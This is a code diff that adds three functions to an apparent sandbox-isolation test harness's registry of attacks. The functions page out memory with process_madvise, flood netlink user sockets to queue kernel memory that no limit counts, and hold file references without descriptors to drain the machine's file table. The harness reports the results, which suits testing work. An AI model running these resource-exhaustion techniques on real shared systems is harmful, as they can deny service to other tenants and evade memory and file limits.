@@ -571,6 +571,76 @@ def drop_cache():
             say(f"madvise {name}: {exc.strerror}")
     mapped.close()
     os.close(fd)
+    # process_madvise gives the same advice for the process's own mappings (Linux 6.13 on).
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long]
+    size = os.path.getsize(path)
+    fd = os.open(path, os.O_RDONLY)
+    address = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
+    for offset in range(0, size, mmap.PAGESIZE):  # mapped in, as the red team's bot did
+        ctypes.c_ubyte.from_address(address + offset).value  # noqa: B018
+    iov = (ctypes.c_size_t * 2)(address, size)  # struct iovec
+    pidfd = libc.syscall(434, os.getpid(), 0)  # pidfd_open
+    done = libc.syscall(440, pidfd, iov, 1, 21, 0)  # process_madvise(MADV_PAGEOUT)
+    say(f"process_madvise pageout: {'done' if done >= 0 else os.strerror(ctypes.get_errno())}")
+
+
+def netlink_queue():
+    """Queue messages between its own netlink sockets (NETLINK_USERSOCK): kernel memory that no
+    memory limit counts, up to 8 MiB a socket."""
+    try:
+        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
+        say("netlink route: made")
+    except OSError as exc:
+        say(f"netlink route: {exc.strerror}")
+    try:
+        receiver = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
+    except OSError as exc:
+        say(f"netlink user socket: {exc.strerror}")
+        return
+    receiver.bind((0, 0))
+    sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
+    sender.setblocking(False)
+    message = (16 + 60000).to_bytes(4, sys.byteorder) + bytes(12) + b"x" * 60000
+    queued = 0
+    with contextlib.suppress(OSError):
+        while queued < 64 << 20:
+            queued += sender.sendto(message, (receiver.getsockname()[0], 0))
+    say(f"netlink user socket: queued {queued >> 20} MiB")
+
+
+def _memory_used():
+    for path in ("/sys/fs/cgroup/memory.current", "/sys/fs/cgroup/memory/memory.usage_in_bytes"):
+        with contextlib.suppress(OSError), open(path) as f:
+            return int(f.read())
+    return 0
+
+
+def file_table():
+    """Hold open files without descriptors (a mapping keeps its file open; RLIMIT_NOFILE does not
+    count it): enough of them fill the machine's table (fs.file-max), and then no process but
+    root's with capabilities may open a file. Say what they cost its memory limit, and how much
+    room the table has."""
+    import mmap
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long]
+    path = os.path.join(os.environ["HOME"], "held")
+    with open(path, "wb") as f:
+        f.write(b"x")
+    before = _memory_used()
+    for _ in range(5000):  # not mmap.mmap, which keeps a descriptor of its own
+        fd = os.open(path, os.O_RDONLY)
+        libc.mmap(None, 1, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
+        os.close(fd)
+    grew = _memory_used() - before
+    with open("/proc/sys/fs/file-nr") as f:
+        used, _, most = (int(x) for x in f.read().split())
+    say(f"held 5000 files, memory grew {grew}")
+    say(f"room in the machine's table {most - used}")
 
 
 ATTACKS = {
@@ -600,6 +670,8 @@ ATTACKS = {
     "hold_quotas": hold_quotas,
     "probe_quotas": probe_quotas,
     "drop_cache": drop_cache,
+    "netlink_queue": netlink_queue,
+    "file_table": file_table,
 }
 
 sys.stdin.readline()  # the start number
